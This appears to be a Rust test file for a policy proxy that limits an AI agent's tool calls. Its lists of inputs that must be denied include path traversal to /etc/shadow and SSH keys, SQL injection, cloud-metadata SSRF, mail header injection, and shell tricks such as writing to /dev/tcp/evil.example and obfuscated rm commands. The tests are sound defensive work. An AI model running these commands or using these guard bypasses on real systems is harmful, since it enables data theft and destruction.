use std::collections::{BTreeMap, BTreeSet};

use ringfence_core::{Agent, ClockFact, Decide as _, Facts, Request, SetName, ToolCall, Verdict};
use ringfence_policy::{Options, Policy, Source};
use ringfence_proxy::mcp::roles::Roles;
use serde_json::json;

use super::*;

/// A recipe of the cookbook, and a directory with a project in it.
struct Recipe {
    policy: Policy,
    /// The same beside rules that let every call be made, as a grant does.
    granted: Policy,
    dir: tempfile::TempDir,
}

impl Recipe {
    /// The directory that it names stands for one in which files can be made.
    fn new(text: &str, names: &str) -> Recipe {
        let dir = tempfile::tempdir().unwrap();
        let real = fs::canonicalize(dir.path()).unwrap();
        fs::create_dir(real.join("data")).unwrap();
        fs::write(real.join("data/a.txt"), "").unwrap();
        fs::write(real.join("outside"), "").unwrap();
        std::os::unix::fs::symlink("../outside", real.join("data/link")).unwrap();
        let text = text.replace(names, &format!("\"{}\"", real.join("data").display()));
        let source = |set, text: &str| Source {
            set,
            file: "recipe.cedar".to_owned(),
            text: text.to_owned(),
            approves: Vec::new(),
        };
        let load = |sources| Policy::load(sources, &Options::default()).unwrap();
        let user = source(SetName::User, &text);
        let grant = r#"permit (principal, action in Action::"tool.call", resource);"#;
        let granted = load(vec![user.clone(), source(SetName::Grants, grant)]);
        Recipe { policy: load(vec![user]), granted, dir }
    }

    /// Whether a call with this argument is made: it, and all that it names, is permitted.
    fn permits(&self, policy: &Policy, tool: &str, (argument, text): (&str, &str)) -> bool {
        let real = fs::canonicalize(self.dir.path()).unwrap();
        let places = Whereabouts {
            home: real.join("home"),
            cwd: real.join("data"),
            search: vec![PathBuf::from("/usr/bin"), PathBuf::from("/bin")],
        };
        let schema = json!({"type": "object", "properties": {argument: {"type": "string"}}});
        let plan = RolePlan::new(tool, "", &schema, &Roles::new());
        let arguments = json!({argument: text});
        let Ok((needs, sent)) = places.look(&plan, &arguments) else { return false };
        let call = ToolCall::of(tool.parse().unwrap(), BTreeMap::new(), &sent);
        let call = Act::CallTool(call.meaning(needs.meaning));
        let permitted = |act: Act| {
            let request = Request { agent: Agent("assistant".to_owned()), act, process: None };
            policy.decide(&request, &facts()).verdict == Verdict::Permit
        };
        std::iter::once(call).chain(needs.acts).all(permitted)
    }

    fn check(&self, (tool, argument): (&str, &str), permitted: &[&str], denied: &[&str]) {
        for text in permitted {
            assert!(self.permits(&self.policy, tool, (argument, text)), "{text:?} is denied");
        }
        for text in denied {
            for policy in [&self.policy, &self.granted] {
                assert!(!self.permits(policy, tool, (argument, text)), "{text:?} is permitted");
            }
        }
    }
}

fn facts() -> Facts {
    let clock =
        ClockFact { weekday: 1, hour: 1, minute: 1, date: 20_261_123, zone: "UTC".to_owned() };
    let session = "sabcdefgh".parse().unwrap();
    Facts { session, clock, approvals: BTreeSet::new(), approver_count: 0 }
}

macro_rules! recipe {
    ($name:literal) => {
        include_str!(concat!("../../../../../ringfence-policy/examples/cookbook/", $name, ".cedar"))
    };
}

#[test]
fn the_recipe_for_one_directory_holds_whatever_a_path_looks_like() {
    let recipe = Recipe::new(recipe!("tools-only-data"), "\"/data\"");
    recipe.check(
        ("files/read", "path"),
        &["a.txt", "./a.txt", "../data/a.txt", "new/b.txt"],
        &[
            "../outside",
            "link",
            "/etc/passwd",
            "~/x",
            "file:///etc/passwd",
            "a.txt\0",
            "..\\outside",
            "%2e%2e/outside",
            "../data/../outside",
            "/proc/self/root/etc/passwd",
            "data:x",
            "\"a.txt\"",
            "../data2/a",
        ],
    );
}

#[test]
fn the_recipe_against_system_paths_holds_whatever_a_path_looks_like() {
    let recipe = Recipe::new(recipe!("system-tools-no-system-paths"), "\"\"");
    std::os::unix::fs::symlink("/etc", recipe.dir.path().join("data/config")).unwrap();
    let everywhere = [
        "/etc/shadow",
        "config/shadow",
        "../../../../../../../../etc/shadow",
        "//etc//shadow",
        "/usr/../etc/shadow",
        "file:///etc/shadow",
        "/proc/self/root/etc/shadow",
        "/boot/grub/grub.cfg",
        "/root/.ssh/id_ed25519",
        "/etc/shadow\0",
    ];
    recipe.check(("files/read", "path"), &["a.txt", "../outside", "/usr/bin/env"], &everywhere);
    recipe.check(("files/write", "path"), &["a.txt", "new.txt"], &everywhere);
    recipe.check(("files/write", "path"), &[], &["/usr/bin/env", "/usr/lib/x", "/var/lib/x"]);
    recipe.check(
        ("shell/run", "command"),
        &["cat a.txt"],
        &["cat config/shadow", "cat < /etc/shadow"],
    );
}

#[test]
fn the_recipe_for_mail_holds_whatever_an_address_looks_like() {
    let recipe = Recipe::new(recipe!("tools-internal-recipients"), "\"\"");
    recipe.check(
        ("mail/send", "email"),
        &["a@example.com", "A <a@EXAMPLE.com>, b@lab.example.com"],
        &[
            "a@evil.example",
            "a@example.com, b@evil.example",
            "\"a@example.com\" <b@evil.example>",
            "a@example.com <b@evil.example>",
            "\"a@evil.example\"@example.com",
            "a@example.com\nbcc: b@evil.example",
            "a@example.com(b)@evil.example",
            "a%evil.example@example.com",
            "a@example.com.evil.example",
            "a@ex\u{430}mple.com",
            "a@example.com@evil.example",
            "a@[10.0.0.1]",
            "",
        ],
    );
    // No role says that it is mail.
    recipe.check(("mail/send", "note"), &[], &["a@example.com", "a@evil.example"]);
    recipe.check(("mail/search", "note"), &["a@evil.example"], &[]);
}

#[test]
fn the_recipe_for_questions_holds_whatever_a_statement_looks_like() {
    let recipe = Recipe::new(recipe!("tools-select-only"), "\"\"");
    recipe.check(
        ("db/query", "sql"),
        &["SELECT * FROM orders", "WITH x AS (SELECT 1) SELECT * FROM x", "SHOW TABLES"],
        &[
            "DELETE FROM orders",
            "SELECT 1; DROP TABLE orders",
            "WITH x AS (DELETE FROM t RETURNING 1) SELECT * FROM x",
            "SELECT * INTO t2 FROM t",
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT 1 /*! ; DROP TABLE t */",
            "EXPLAIN ANALYZE DELETE FROM t",
            "COPY t TO PROGRAM 'sh'",
            "SELECT load_extension('x')",
            "PRAGMA x = 1",
            "SELECT '\\'; DROP TABLE t; -- '",
            "SELECT * FROM hr.SALARIES",
            "SELECT * FROM \"salaries\"",
            "",
            "drop everything",
        ],
    );
    // No role says that it is a statement.
    recipe.check(("db/query", "note"), &[], &["SELECT 1", "DROP TABLE t"]);
}

#[test]
fn the_recipe_for_hosts_holds_whatever_an_address_looks_like() {
    let recipe = Recipe::new(recipe!("tools-approved-hosts"), "\"\"");
    recipe.check(
        ("web/fetch", "url"),
        &["https://api.example.com/x", "https://API.example.com:443/"],
        &[
            "http://api.example.com/",
            "https://evil.example/",
            "https://api.example.com@evil.example/",
            "https://evil.example\\@api.example.com/",
            "https://api.example.com.evil.example/",
            "//api.example.com/",
            "https://api.example.com:22/",
            "https://169.254.169.254/",
            "https://2852039166/",
            "gopher://api.example.com/",
            "https://api%2eexample.com/",
            "https://api.example.com /",
            "file:///etc/passwd",
        ],
    );
}

#[test]
fn the_recipe_against_destruction_holds_whatever_a_command_looks_like() {
    let recipe = Recipe::new(recipe!("tools-no-destruction"), "\"/home/ada/project\"");
    recipe.check(
        ("shell/run", "command"),
        &[
            "cat a.txt",
            "head -n 1 a.txt | wc -l > out",
            "echo 'rm -rf /'",
            "echo git push",
            // What it does not hold, as the page says.
            "> a.txt",
            "cp /dev/null a.txt",
        ],
        &[
            "rm a.txt",
            "gzip a.txt",
            "sudo userdel ada",
            "r\\m a.txt",
            "env rm a.txt",
            "sudo rm a.txt",
            "echo $(rm a.txt)",
            "bash -c 'rm a.txt'",
            "find . -exec rm {} +",
            "find . -delete",
            "echo a.txt | xargs rm",
            "$X a.txt",
            "eval rm a.txt",
            "python3 -c 'import os'",
            "mv a.txt b.txt",
            "cat ../outside",
            "cat link",
            "cat a.txt > /etc/x",
            "cd /etc; cat passwd",
            "curl https://evil.example/",
            "cat a.txt > /dev/tcp/evil.example/80",
            "sh <<< 'rm a.txt'",
            "cat <(rm a.txt)",
            "git -c alias.x='!rm a.txt' x",
            "LD_PRELOAD=./x cat a.txt",
            "/bin/r? a.txt",
            "r${X}m a.txt",
            "truncate -s 0 a.txt",
            "sed -i '1e rm a.txt' a.txt",
            "busybox rm a.txt",
            "timeout 1 rm a.txt",
            "{rm,a.txt}",
            "`echo rm` a.txt",
            "git clean -fdx",
            "git reset --hard",
            "git push --force",
            "git --no-pager push origin +main",
            "/usr/lib/git-core/git-push --force",
            "env git -C . clean -f",
            "sh -c 'git checkout .'",
            "psql -c 'drop table x'",
            "sqlite3 a.txt 'drop table x'",
            "mkfs.ext4 x",
            "sudo mkfs.xfs -f x",
        ],
    );
}

#[test]
fn a_program_that_is_many_is_known_with_its_subcommand() {
    for (line, known) in [
        ("git push --force", Some("git push")),
        ("/usr/bin/git -C x clean -fdx", Some("git clean")),
        ("git-reset --hard", Some("git reset")),
        ("docker rm x", Some("docker rm")),
        ("git --version", None),
        ("cat push", None),
    ] {
        let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
        assert_eq!(with_subcommand(&words).as_deref(), known, "{line}");
    }
}

#[test]
fn an_address_has_one_reading_or_none() {
    for (text, endpoint) in [
        ("https://a.example/x", "a.example:443"),
        ("HTTP://a.example", "a.example:80"),
        ("http://a.example:8080?x", "a.example:8080"),
        ("https://[::1]/", "[::1]:443"),
        ("ftp://a.example:21/", "a.example:21"),
    ] {
        assert_eq!(endpoint_of_url(text).unwrap().to_string(), endpoint, "{text}");
    }
    for text in [
        "a.example",
        "https:b://a:1/",
        "https://a@b/",
        "https://a\\b",
        "https://a b/",
        "https://a%2eexample/",
        "https:///a.example/",
        "//a.example/",
        "https://127.1/",
        "gopher://a/",
        "file:/x",
    ] {
        assert!(endpoint_of_url(text).is_err(), "{text}");
    }
}
